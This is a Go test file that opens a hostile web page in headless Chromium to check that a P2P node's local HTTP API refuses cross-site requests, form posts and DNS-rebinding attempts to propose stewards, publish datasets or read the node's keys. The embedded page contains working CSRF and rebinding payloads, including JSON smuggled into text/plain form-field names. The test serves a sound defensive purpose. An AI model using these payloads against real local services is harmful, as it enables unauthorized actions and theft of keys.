//go:build linux

package node

import (
	"bytes"
	"context"
	"fmt"
	"html/template"
	"io"
	"net/http"
	"net/http/httptest"
	"os/exec"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/commons-p2p/commons/node/apiserver"
)

// TestAPIBrowserPageCannotActAsNode opens, in a real headless Chromium,
// pages that try what a hostile site would: propose a steward, publish a
// dataset and read the node's keys, by fetch (no-cors and cors) and by
// forms that submit themselves. One page is on another port of loopback
// (same site, other origin), one on localhost (another site), and one
// plays DNS rebinding: its name resolves to the API's address, so it calls
// the API as its own origin. Each page reports to its own server what it
// could read; the test then asks the node whether anything was published,
// and checks that the page's requests did reach the API and were refused.
func TestAPIBrowserPageCannotActAsNode(t *testing.T) {
	browser := findChromium(t)
	n := stewardOfOne(t)
	keys, err := n.Keys(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	secrets := []string{keys[0].DID.String(), n.repo.Dir, n.repo.PeerID.String()}

	var rec apiRecorder
	page := &hostilePage{dataset: pageDataset(t), reports: make(chan string, 4)}
	api := http.NewServeMux()
	api.Handle("/attack/", page) // what the rebound name served before it was rebound
	api.Handle("/", rec.wrap(n.Handler("")))
	apiSrv := httptest.NewUnstartedServer(api)
	apiSrv.Config = apiserver.NewServer(api, apiserver.DefaultTimeouts)
	apiSrv.Start()
	defer apiSrv.Close()
	_, apiPort, _ := strings.Cut(apiSrv.Listener.Addr().String(), ":")
	other := httptest.NewServer(page)
	defer other.Close()
	_, otherPort, _ := strings.Cut(other.Listener.Addr().String(), ":")

	for _, tt := range []struct {
		name, url, api string
	}{
		{"another port of 127.0.0.1", "http://127.0.0.1:" + otherPort, "http://127.0.0.1:" + apiPort},
		{"another site (localhost)", "http://localhost:" + otherPort, "http://127.0.0.1:" + apiPort},
		{"DNS rebinding", "http://rebound.example:" + apiPort, ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			rec.reset()
			report := runPage(t, browser, tt.url+"/attack/page?api="+tt.api, page.reports)
			t.Logf("the page reports: %s", report)
			for _, s := range secrets {
				if strings.Contains(report, s) {
					t.Errorf("the page read %q", s)
				}
			}
			seen := rec.seen()
			for _, want := range []string{"POST /v1/gov/propose", "POST /v1/datasets", "GET /v1/keys"} {
				if len(seen[want]) == 0 {
					t.Errorf("no %s reached the API (saw %v): the page did not try", want, seen)
				}
			}
			for req, codes := range seen {
				for _, code := range codes {
					if code < 400 {
						t.Errorf("%s answered %d", req, code)
					}
				}
			}
		})
	}
	nothingPublished(t, n.Node, 1)
}

// findChromium returns the browser's path, or skips: the test installs
// nothing (.ci/run does).
func findChromium(t *testing.T) string {
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome", "google-chrome-stable"} {
		if p, err := exec.LookPath(name); err == nil {
			return p
		}
	}
	t.Skip("no chromium on PATH (apt-get install -y chromium): the browser attack is not tried")
	return ""
}

// runPage opens url in a headless Chromium until the page reports, and
// returns the report.
func runPage(t *testing.T, browser, url string, reports <-chan string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
	defer cancel()
	var out bytes.Buffer
	cmd := exec.Command(browser, "--headless=new", "--no-sandbox", "--disable-gpu",
		"--disable-dev-shm-usage", "--no-first-run", "--no-default-browser-check",
		"--disable-extensions", "--disable-background-networking", "--disable-sync",
		"--disable-features=HttpsUpgrades,HttpsFirstBalancedModeAutoEnable",
		"--user-data-dir="+t.TempDir(),
		"--host-resolver-rules=MAP rebound.example 127.0.0.1",
		url)
	cmd.Stdout, cmd.Stderr = &out, &out
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	if err := cmd.Start(); err != nil {
		t.Fatalf("start %s: %v", browser, err)
	}
	exited := make(chan error, 1)
	go func() { exited <- cmd.Wait() }()
	defer func() {
		syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) // the browser and its children
		<-exited
	}()
	select {
	case r := <-reports:
		return r
	case err := <-exited:
		t.Fatalf("chromium exited (%v) before the page reported:\n%s", err, tail(out.String(), 2000))
	case <-ctx.Done():
		t.Fatalf("the page did not report within 2 minutes; chromium said:\n%s", tail(out.String(), 2000))
	}
	return ""
}

func tail(s string, n int) string {
	if len(s) > n {
		return "…" + s[len(s)-n:]
	}
	return s
}

// apiRecorder notes the status of every request that reaches the API.
type apiRecorder struct {
	mu    sync.Mutex
	codes map[string][]int
}

func (a *apiRecorder) reset() {
	a.mu.Lock()
	a.codes = map[string][]int{}
	a.mu.Unlock()
}

func (a *apiRecorder) seen() map[string][]int {
	a.mu.Lock()
	defer a.mu.Unlock()
	out := map[string][]int{}
	for k, v := range a.codes {
		out[k] = append([]int(nil), v...)
	}
	return out
}

func (a *apiRecorder) wrap(h http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		sw := &statusWriter{ResponseWriter: w, code: http.StatusOK}
		h.ServeHTTP(sw, r)
		a.mu.Lock()
		a.codes[r.Method+" "+r.URL.Path] = append(a.codes[r.Method+" "+r.URL.Path], sw.code)
		a.mu.Unlock()
	})
}

type statusWriter struct {
	http.ResponseWriter
	code int
}

func (s *statusWriter) WriteHeader(code int) {
	s.code = code
	s.ResponseWriter.WriteHeader(code)
}

func (s *statusWriter) Unwrap() http.ResponseWriter { return s.ResponseWriter }

// hostilePage serves the attacking page at /attack/page and takes its
// report at /attack/report.
type hostilePage struct {
	dataset string
	reports chan string
}

func (p *hostilePage) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	switch r.URL.Path {
	case "/attack/page":
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		err := hostilePageHTML.Execute(w, map[string]any{
			"API": r.URL.Query().Get("api"), "Proposal": pageProposal, "Dataset": p.dataset,
			// A text/plain form sends NAME=VALUE: the name holds the JSON up
			// to inside its last string, which the value closes.
			"ProposalForm": strings.TrimSuffix(pageProposal, `"}`),
			"DatasetForm":  strings.TrimSuffix(p.dataset, "}") + `,"description":"planted`,
		})
		if err != nil {
			panic(fmt.Sprint("hostile page: ", err))
		}
	case "/attack/report":
		b, _ := io.ReadAll(r.Body)
		p.reports <- string(b)
	case "/favicon.ico":
		http.NotFound(w, r)
	default:
		http.NotFound(w, r)
	}
}

// hostilePageHTML tries everything a page can without the user's help.
// The text/plain forms are the classic way to post JSON from a form.
var hostilePageHTML = template.Must(template.New("page").Parse(`<!doctype html>
<html><head><title>a page</title></head><body>
<pre id="out">running</pre>
<iframe name="f1"></iframe><iframe name="f2"></iframe><iframe name="f3"></iframe>
<form id="form1" method="POST" enctype="text/plain" target="f1" action="{{.API}}/v1/gov/propose"><input name="{{.ProposalForm}}" value='"}'></form>
<form id="form2" method="POST" enctype="text/plain" target="f2" action="{{.API}}/v1/datasets"><input name="{{.DatasetForm}}" value='"}'></form>
<form id="form3" method="POST" target="f3" action="{{.API}}/v1/datasets"><input name="name" value="planted"></form>
<script>
const api = {{.API}};
const proposal = {{.Proposal}};
const dataset = {{.Dataset}};
const results = {};
async function attempt(name, f) {
  try { results[name] = await f(); } catch (e) { results[name] = "error: " + e; }
}
async function show(r) { return r.type + " " + r.status + " " + (await r.text()); }
function submitted(form, frame) {
  return new Promise(done => {
    document.getElementsByName(frame)[0].onload = () => done("loaded");
    setTimeout(() => done("no load in 10 s"), 10000);
    document.getElementById(form).submit();
  });
}
(async () => {
  await attempt("propose, no-cors text/plain", async () => show(await fetch(api + "/v1/gov/propose",
    {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body: proposal})));
  await attempt("dataset, no-cors", async () => show(await fetch(api + "/v1/datasets",
    {method: "POST", mode: "no-cors", body: dataset})));
  await attempt("propose, cors json", async () => show(await fetch(api + "/v1/gov/propose",
    {method: "POST", headers: {"Content-Type": "application/json"}, body: proposal})));
  await attempt("dataset, cors json", async () => show(await fetch(api + "/v1/datasets",
    {method: "POST", headers: {"Content-Type": "application/json"}, body: dataset})));
  for (const path of ["/v1/keys", "/v1/id", "/metrics"]) {
    await attempt("read " + path, async () => show(await fetch(api + path)));
    await attempt("read " + path + ", no-cors", async () => show(await fetch(api + path, {mode: "no-cors"})));
  }
  results["form propose"] = await submitted("form1", "f1");
  results["form dataset"] = await submitted("form2", "f2");
  results["urlencoded form dataset"] = await submitted("form3", "f3");
  for (const f of ["f1", "f2", "f3"]) {
    try { results["frame " + f] = window.frames[f].document.body.innerText; }
    catch (e) { results["frame " + f] = "unreadable: " + e.name; }
  }
  const report = JSON.stringify(results);
  document.getElementById("out").textContent = report;
  await fetch("/attack/report", {method: "POST", body: report});
})();
</script></body></html>
`))
